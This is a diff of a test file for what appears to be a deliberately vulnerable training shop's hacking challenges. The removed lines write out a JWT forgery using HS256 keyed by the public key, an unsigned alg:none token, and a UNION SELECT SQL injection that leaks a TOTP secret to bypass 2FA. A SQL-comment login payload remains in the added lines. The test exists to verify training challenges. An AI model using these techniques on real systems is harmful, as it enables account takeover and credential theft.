@@ -1,10 +1,10 @@
-import { createHmac } from 'node:crypto'
 import type { ChallengeKey } from '@pulp/challenges'
 import { generateSync } from 'otplib'
 import request from 'supertest'
 import { beforeEach, describe, expect, it } from 'vitest'
 import { createTestShop, tokenFor, type TestShop } from '../../testing/test-app'
 import { unsignedToken as unsigned, usersAttacks } from './users.attacks'
+import { forgedToken, WURSTBROT } from './users.tokens.attacks'
 
 let shop: TestShop
 beforeEach(() => {
@@ -12,7 +12,6 @@ beforeEach(() => {
 })
 
 const solved = (key: ChallengeKey) => shop.ctx.training.isSolved(key)
-const base64url = (json: object) => Buffer.from(JSON.stringify(json)).toString('base64url')
 const listUsers = (token: string) => request(shop.app).get('/api/Users').set('Authorization', `Bearer ${token}`)
 
 describe('jwtUnsignedChallenge', () => {
@@ -31,55 +30,29 @@ describe('jwtUnsignedChallenge', () => {
 })
 
 describe('jwtForgedChallenge', () => {
-  async function forged(email: string): Promise<string> {
-    const publicKey = await request(shop.app).get('/encryptionkeys/jwt.pub').buffer(true).parse((res, done) => {
-      let text = ''
-      res.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')))
-      res.on('end', () => done(null, text))
-    })
-    expect(publicKey.status).toBe(200)
-    const signingInput = `${base64url({ typ: 'JWT', alg: 'HS256' })}.${base64url({ data: { email } })}`
-    return `${signingInput}.${createHmac('sha256', publicKey.body as string).update(signingInput).digest('base64url')}`
-  }
-
   it('is solved by a token for rsa_lord signed with HS256 keyed by the public key file', async () => {
-    const response = await listUsers(await forged('rsa_lord@juice-sh.op'))
-    expect(response.status).toBe(200)
+    const response = await usersAttacks.jwtForgedChallenge(shop.app)
+    expect(response.body.status).toBe('success')
     expect(solved('jwtForgedChallenge')).toBe(true)
   })
 
   it('is not solved by a forged token for someone else or an unsigned one for rsa_lord', async () => {
-    await listUsers(await forged('jim@juice-sh.op'))
-    await listUsers(`${base64url({ alg: 'none' })}.${base64url({ data: { email: 'rsa_lord@juice-sh.op' } })}.`)
+    await listUsers(await forgedToken(shop.app, 'jim@juice-sh.op'))
+    await listUsers(unsigned('rsa_lord@juice-sh.op'))
     expect(solved('jwtForgedChallenge')).toBe(false)
   })
 })
 
 describe('twoFactorAuthUnsafeSecretStorageChallenge', () => {
-  const WURSTBROT = "wurstbrot@juice-sh.op'--"
-
   it("is solved by stealing wurstbrot's TOTP secret with SQL injection and passing his second factor", async () => {
-    const search = await request(shop.app)
-      .get('/rest/products/search')
-      .query({ q: "')) UNION SELECT id, email, totpSecret, 4, 5, 6, 7, 8, 9 FROM Users--" })
-    expect(search.status).toBe(200)
-    const leaked = (search.body.data as { name: string; description: string }[]).find((row) => row.name === 'wurstbrot@juice-sh.op')
-    expect(leaked?.description).toBe('IFTXE3SPOEYVURT2MRYGI52TKJ4HC3KH')
-
-    const login = await request(shop.app).post('/rest/user/login').send({ email: WURSTBROT, password: 'x' })
-    expect(login.status).toBe(401)
-    expect(login.body.status).toBe('totp_token_required')
-
-    const verify = await request(shop.app)
-      .post('/rest/2fa/verify')
-      .send({ tmpToken: login.body.data.tmpToken, totpToken: generateSync({ secret: leaked!.description }) })
-    expect(verify.status).toBe(200)
-    expect(verify.body.authentication.umail).toBe('wurstbrot@juice-sh.op')
+    const { secret, verify } = await usersAttacks.twoFactorAuthUnsafeSecretStorageChallenge(shop.app)
+    expect(secret).toBe('IFTXE3SPOEYVURT2MRYGI52TKJ4HC3KH')
+    expect(verify.body.authentication.umail).toBe(WURSTBROT)
     expect(solved('twoFactorAuthUnsafeSecretStorageChallenge')).toBe(true)
   })
 
   it('is not solved by a wrong code, or by another user passing their own second factor', async () => {
-    const login = await request(shop.app).post('/rest/user/login').send({ email: WURSTBROT, password: 'x' })
+    const login = await request(shop.app).post('/rest/user/login').send({ email: `${WURSTBROT}'--`, password: 'x' })
     expect((await request(shop.app).post('/rest/2fa/verify').send({ tmpToken: login.body.data.tmpToken, totpToken: '000000' })).status).toBe(401)
 
     const { token } = await shop.login('jim@juice-sh.op', 'ncc-1701')
